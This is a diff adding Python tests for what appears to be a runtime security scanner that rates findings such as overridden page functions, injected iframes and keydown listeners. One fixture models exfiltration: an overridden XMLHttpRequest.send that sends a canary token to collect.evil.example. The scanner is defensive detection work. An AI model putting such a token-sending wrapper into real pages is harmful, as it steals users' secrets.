@@ -171,3 +171,51 @@ def test_the_host_token_read_counts_even_with_storage_declared() -> None:
     for event in (read, idb):
         rules = {f.rule_id for f in trace_findings(_trace(event), Capabilities(storage=True))}
         assert rules == {"runtime-storage-token-read"}
+
+
+def test_wrapping_page_primitives_alone_is_recorded_once_and_low() -> None:
+    """zone.js and error monitors wrap timers, fetch and listeners; wrapping is not sending."""
+    names = ["fetch", "XMLHttpRequest.send", "setTimeout", "addEventListener"]
+    events = [{"type": "override", "name": n} for n in names]
+    found = [
+        f for f in trace_findings(_trace(*events), Capabilities()) if f.severity > Severity.INFO
+    ]
+    assert [(f.rule_id, f.severity) for f in found] == [("runtime-global-override", Severity.LOW)]
+
+
+def test_a_wrapper_that_sends_page_data_away_is_still_exfiltration() -> None:
+    token = CANARIES[next(iter(CANARIES))]
+    trace = _trace(
+        {"type": "override", "name": "XMLHttpRequest.send"},
+        _req("https://collect.evil.example/c", token),
+    )
+    found = trace_findings(trace, Capabilities())
+    assert any(f.category is Category.EXFILTRATION and f.severity >= Severity.HIGH for f in found)
+
+
+def test_widgets_in_the_body_are_low_and_injected_frames_high() -> None:
+    tooltip = {"type": "dom-outside", "kind": "childList", "target": "body",
+               "added": '<div class="tip" style="position:absolute">3 items</div>'}  # fmt: skip
+    frame = {"type": "dom-outside", "kind": "childList", "target": "body",
+             "added": '<div><iframe src="http://x.example/"></iframe></div>'}  # fmt: skip
+    banner = {"type": "dom-outside", "kind": "childList", "target": "body",
+              "added": '<div><a href="https://deals.example">90% off</a></div>'}  # fmt: skip
+
+    def severities(event: dict[str, Any]) -> list[Severity]:
+        return [
+            f.severity
+            for f in trace_findings(_trace(event), Capabilities())
+            if f.rule_id == "runtime-dom-outside-container"
+        ]
+
+    assert severities(tooltip) == [Severity.LOW]
+    assert severities(frame) == [Severity.HIGH]
+    assert severities(banner) == [Severity.HIGH]
+
+
+def test_a_page_wide_key_listener_alone_is_low() -> None:
+    event = {"type": "page-listener", "event": "keydown"}
+    found = [f for f in trace_findings(_trace(event), Capabilities()) if f.severity > Severity.INFO]
+    assert [(f.rule_id, f.severity) for f in found] == [
+        ("runtime-page-input-listener", Severity.LOW)
+    ]
